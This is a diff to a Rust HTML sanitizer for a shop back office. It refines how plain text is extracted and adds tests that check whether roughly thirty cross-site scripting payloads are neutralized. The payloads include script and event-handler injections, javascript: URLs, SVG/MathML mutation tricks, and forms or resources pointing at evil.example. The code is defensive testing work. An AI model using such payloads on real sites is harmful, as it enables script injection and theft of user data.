@@ -82,11 +82,32 @@ pub fn sanitize(html: &str) -> Option<String> {
 
 /// The text alone, with runs of white space folded; none when there is none.
 pub fn plain_text(html: &str) -> Option<String> {
-    // A tag separates words: "<p>a</p><p>b</p>" is "a b".
-    let spaced = html.replace('<', " <");
-    let text = unescape(&NOTHING.clean(&spaced).to_string());
+    let text = unescape(&NOTHING.clean(&with_words_apart(html)).to_string());
     let folded = text.split_whitespace().collect::<Vec<_>>().join(" ");
     (!folded.is_empty()).then_some(folded)
+}
+
+/// Tags that stand within a word or right before a comma; every other one separates words.
+const INLINE: [&str; 12] = [
+    "a", "b", "em", "font", "i", "mark", "s", "small", "span", "strong", "sub", "u",
+];
+
+/// With a blank before each tag that separates words: "<p>a</p><p>b</p>" is "a b".
+fn with_words_apart(html: &str) -> String {
+    let mut pieces = html.split('<');
+    let mut spaced = pieces.next().unwrap_or_default().to_owned();
+    for piece in pieces {
+        let name = piece.trim_start_matches('/').to_ascii_lowercase();
+        let name = name
+            .split(|letter: char| !letter.is_ascii_alphanumeric())
+            .next();
+        if !name.is_some_and(|name| INLINE.contains(&name)) {
+            spaced.push(' ');
+        }
+        spaced.push('<');
+        spaced.push_str(piece);
+    }
+    spaced
 }
 
 /// Whether an address from the back office may become a link: a path of this shop, or http(s).
@@ -152,10 +173,85 @@ mod tests {
         assert_eq!(sanitize(html).as_deref(), expected);
     }
 
+    /// What tries to run, load, submit, restyle or take over; mutation tricks are parsed differently the second time.
+    #[rstest]
+    #[case::script("<scr<script>ipt>alert(1)</script>Oak")]
+    #[case::script_in_capitals("<SCRIPT SRC=//evil.example/x.js></SCRIPT>Oak")]
+    #[case::handler("<p onmouseover=alert(1)>Oak</p>")]
+    #[case::handler_after_a_slash("<b/onclick=alert(1)>Oak</b>")]
+    #[case::javascript_with_a_tab("<a href=\"java&#9;script:alert(1)\">Oak</a>")]
+    #[case::javascript_after_a_blank("<a href=\" &#1; javascript:alert(1)\">Oak</a>")]
+    #[case::javascript_in_capitals("<a href=JaVaScRiPt:alert(1)>Oak</a>")]
+    #[case::vbscript("<a href=vbscript:alert(1)>Oak</a>")]
+    #[case::data("<a href=\"data:text/html,<script>alert(1)</script>\">Oak</a>")]
+    #[case::svg(
+        "<svg onload=alert(1)><a xlink:href=javascript:alert(1)><text>now</text></a></svg>Oak"
+    )]
+    #[case::svg_style("<svg><style><img src=x onerror=alert(1)></style></svg>Oak")]
+    #[case::math(
+        "Oak<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">"
+    )]
+    #[case::math_in_forms(
+        "Oak<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
+    )]
+    #[case::noscript("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">Oak")]
+    #[case::title("<title><a href=\"</title><img src=x onerror=alert(1)>\">Oak")]
+    #[case::template("<template><script>alert(1)</script></template>Oak")]
+    #[case::style("<p style=background:url(//evil.example)>Oak</p><style>*{display:none}</style>")]
+    #[case::iframe("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>Oak")]
+    #[case::object("<object data=//evil.example/x.swf></object><embed src=//evil.example>Oak")]
+    #[case::form(
+        "<form action=//evil.example><input name=card><button formaction=//evil.example>Oak</button></form>"
+    )]
+    #[case::base("<base href=//evil.example/>Oak")]
+    #[case::refresh("<meta http-equiv=refresh content=\"0;url=//evil.example\">Oak")]
+    #[case::link("<link rel=stylesheet href=//evil.example/x.css>Oak")]
+    #[case::picture("<img src=//evil.example/pixel.gif>Oak")]
+    #[case::names_of_ours("<p id=root name=cookie class=dialog>Oak</p>")]
+    #[case::comment("<!--><img src=x onerror=alert(1)>-->Oak")]
+    #[case::cdata("<![CDATA[<img src=x onerror=alert(1)>]]>Oak")]
+    #[case::unclosed("Oak<img src=x onerror=alert(1)")]
+    fn nothing_hostile_is_left(#[case] html: &str) {
+        let clean = sanitize(html).unwrap();
+        assert!(clean.contains("Oak"), "{clean}");
+        assert_eq!(sanitize(&clean).unwrap(), clean, "it stays as it is");
+        for tag in clean.split('<').skip(1) {
+            let tag = tag.split('>').next().unwrap();
+            let harmless = [
+                "a",
+                "a rel=\"noopener noreferrer nofollow\"",
+                "b",
+                "p",
+                "table",
+                "tbody",
+            ];
+            let name = tag.trim_start_matches('/');
+            assert!(harmless.contains(&name), "{clean}");
+        }
+    }
+
+    #[rstest]
+    #[case("https://example.com/?a=1&b=2", "https://example.com/?a=1&amp;b=2")]
+    #[case("/shop/sidebar/list", "/shop/sidebar/list")]
+    #[case("mailto:office@example.com", "mailto:office@example.com")]
+    fn links_of_descriptions_vouch_for_nobody(#[case] href: &str, #[case] expected: &str) {
+        let clean = sanitize(&format!(
+            "<a href=\"{href}\" target=_blank rel=opener>Oak</a>"
+        ));
+        let expected =
+            format!("<a href=\"{expected}\" rel=\"noopener noreferrer nofollow\">Oak</a>");
+        assert_eq!(clean.unwrap(), expected);
+    }
+
     #[rstest]
     #[case("<p>Salt &amp; lime</p><p>50/50</p>", Some("Salt & lime 50/50"))]
     #[case("2 < 3 & 4 > 1", Some("2 < 3 & 4 > 1"))]
     #[case("<style>p{}</style><br>", None)]
+    #[case(
+        "Call<br>the <B>shop</B>, <a href=/x>n</a>ow",
+        Some("Call the shop, now")
+    )]
+    #[case("<ul><li>a<li>b</ul>c", Some("a b c"))]
     #[case("  one\n two ", Some("one two"))]
     fn text_keeps_its_words(#[case] html: &str, #[case] expected: Option<&str>) {
         assert_eq!(plain_text(html).as_deref(), expected);
